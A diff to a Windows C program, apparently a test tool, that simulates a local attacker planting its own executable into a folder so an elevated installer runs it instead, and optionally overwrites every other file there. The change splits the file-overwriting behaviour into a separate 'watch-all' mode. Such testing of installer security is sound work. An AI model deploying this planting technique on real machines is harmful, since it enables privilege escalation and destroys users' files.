@@ -1,9 +1,10 @@
 /* The other user of the machine, who wants an elevated setup to start their program
    instead of its installer.
      swapper watch FOLDER NAME   until killed: puts a copy of itself at FOLDER\NAME every way
-                                 a program can, as soon as anything is there, and writes
-                                 itself into every other file of FOLDER it can open;
-                                 notes each success in %TEMP%\hdgr_swapper_log.txt
+                                 a program can, as soon as anything is there; notes each
+                                 success in %TEMP%\hdgr_swapper_log.txt
+     swapper watch-all FOLDER NAME  the same, and writes itself into every other file of
+                                 FOLDER it can open
      swapper                     the program it plants: leaves %TEMP%\hdgr_swapper_started.txt */
 #include <windows.h>
 #include <wchar.h>
@@ -85,7 +86,8 @@ int WINAPI wWinMain(HINSTANCE instance, HINSTANCE previous, PWSTR command_line, 
   GetModuleFileNameW(NULL, self, MAX_PATH);
   int count = 0;
   LPWSTR* arguments = CommandLineToArgvW(GetCommandLineW(), &count);
-  if (count < 4 || wcscmp(arguments[1], L"watch") != 0) {
+  const int every_file = count >= 4 && wcscmp(arguments[1], L"watch-all") == 0;
+  if (count < 4 || (wcscmp(arguments[1], L"watch") != 0 && !every_file)) {
     WCHAR marker[MAX_PATH];
     TempFile(L"hdgr_swapper_started.txt", marker);
     HANDLE file = CreateFileW(marker, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
@@ -100,6 +102,6 @@ int WINAPI wWinMain(HINSTANCE instance, HINSTANCE previous, PWSTR command_line, 
   TempFile(L"hdgr_swapper_spare.exe", spare);
   for (;;) {
     Attack(target);
-    AttackEveryOtherFile(folder, name);
+    if (every_file) AttackEveryOtherFile(folder, name);
   }
 }
